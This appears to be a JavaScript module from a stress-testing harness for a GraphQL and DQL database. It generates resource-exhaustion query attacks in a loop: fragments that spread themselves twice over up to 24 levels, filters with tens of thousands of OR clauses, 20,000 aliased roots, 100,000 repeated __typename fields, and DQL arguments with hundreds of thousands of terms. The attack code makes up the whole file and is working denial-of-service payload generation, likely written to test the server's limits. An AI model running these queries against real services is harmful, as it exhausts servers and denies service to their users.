// Attacks by the text of a request: short documents that become large ones, and long ones whose parts are compared with
// each other. Each is a function of a number, so that no two requests are the same text.

const repeat = (count, make) => Array.from({ length: count }, (_, i) => make(i)).join(" ");
const document = (make) => async (client) => {
  for (let i = 0; !client.isOver; i++) await client.graphql(make(client.number * 1e6 + i));
};
const dql = (make) => async (client) => {
  for (let i = 0; !client.isOver; i++) await client.dql(make(client.number * 1e6 + i));
};

/** Fragments that spread the next one twice. */
function doubling(levels, last) {
  const parts = repeat(levels, (i) => {
    const inner = i === levels - 1 ? last : `...f${i + 1} ...f${i + 1}`;
    return `fragment f${i} on Person { ${inner} }`;
  });
  return parts;
}

const combinations = (count, seed) =>
  Object.fromEntries(Array.from({ length: count }, (_, i) => [`v${i}`, ((seed >> i) & 1) === 1]));

export const documents = {
  "graphql-fragments": document(
    (n) => `query q${n} { queryPerson(first: 1) { ...f0 } } ${doubling(18, "name")}`,
  ),
  "dql-fragments": dql(
    (n) =>
      `{ q${n}(func: uid(1)) { ...f0 } } ${repeat(24, (i) => `fragment f${i} { ${i === 23 ? "name" : `...f${i + 1} ...f${i + 1}`} }`)}`,
  ),
  "graphql-expanded": document(
    (n) =>
      `query q${n} { queryPerson(first: 1) { ...f0 } } ${repeat(14, (i) => `fragment f${i} on Person { ${i === 13 ? "id" : `to { ...f${i + 1} } a: to { ...f${i + 1} }`} }`)}`,
  ),
  "graphql-variants": async (client) => {
    const count = 12;
    const variables = repeat(count, (i) => `$v${i}: Boolean!`);
    const fields = repeat(
      count,
      (i) => `${repeat(20, (k) => `a${i}x${k}: name`)} b${i}: score @include(if: $v${i})`,
    );
    const query = `query q(${variables}) { queryPerson(first: 1) { ${fields} } }`;
    for (let i = client.number; !client.isOver; i += 7) {
      await client.graphql(query, combinations(count, i));
    }
  },
  "graphql-or": document(
    (n) =>
      `query q${n} { queryPerson(first: 1, filter: { or: [${repeat(50_000, (i) => `{ score: { eq: ${i} } }`)}] }) { id } }`,
  ),
  "graphql-or-variable": async (client) => {
    const query = "query($f: PersonFilter) { queryPerson(first: 1, filter: $f) { id } }";
    for (let i = client.number * 1e6; !client.isOver; i++) {
      const or = Array.from({ length: 19_000 }, (_, k) => ({ score: { eq: k + i } }));
      await client.graphql(query, { f: { or } });
    }
  },
  "graphql-roots": document(
    (n) => `query q${n} { ${repeat(20_000, (i) => `a${i}: queryPerson(first: 1) { id }`)} }`,
  ),
  "graphql-typename": document(
    (n) => `query q${n} { queryPerson(first: 1) { ${"__typename ".repeat(100_000)} } }`,
  ),
  "graphql-same-names": document(
    (n) => `query q${n} { queryPerson(first: 1) { ${repeat(20_000, () => "to { to { id } }")} } }`,
  ),
  "graphql-directives": document(
    (n) => `query q${n} { queryPerson(first: 1) { id ${"@include(if: true) ".repeat(20_000)} } }`,
  ),
  "graphql-unused": document(
    (n) =>
      `query q${n} { queryPerson(first: 1) { id } } ${repeat(20_000, (i) => `fragment u${i} on Person { id }`)}`,
  ),
  "dql-words": dql(
    (n) => `{ q${n}(func: alloftext(words, "${repeat(200_000, (i) => `w${i}`)}")) { uid } }`,
  ),
  "dql-arguments": dql(
    (n) =>
      `{ q${n}(func: eq(name, [${repeat(300_000, (i) => `"${i}"`).replaceAll(" ", ",")}])) { uid } }`,
  ),
};
